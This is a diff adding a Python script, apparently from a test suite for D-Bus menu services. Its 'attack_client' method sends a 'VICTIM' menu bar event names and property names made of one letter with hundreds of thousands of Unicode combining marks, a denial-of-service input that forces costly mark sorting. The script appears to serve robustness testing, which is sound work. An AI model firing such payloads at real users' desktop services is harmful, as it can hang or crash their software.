@@ -1,0 +1,24 @@
+#!/usr/bin/python3
+"""Texts of one letter with so many marks, which are to be sorted before two of them can be compared."""
+import os, sys, time
+sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.realpath(__file__))))
+from peer import *  # noqa: E402,F403
+
+
+def letter(marks): return 'a' + '\u0301' * (marks // 2) + '\u0323' * (marks // 2)
+
+
+class Marks(Texts):
+    title = letter(240000)
+
+    def attack_client(self):
+        """As many as events and names of properties may have."""
+        super().attack_client()
+        self.bus.send(self.event(1, letter(31000), ('s', letter(100))))
+        names = [letter(130000)]
+        for member, given in (('GetLayout', ('iias', 0, -1, names)), ('GetGroupProperties', ('aias', [1], names))):
+            try: self.bus.call(VICTIM, '/MenuBar', MENU, member, *given)
+            except Failed: pass
+
+
+Marks.main()
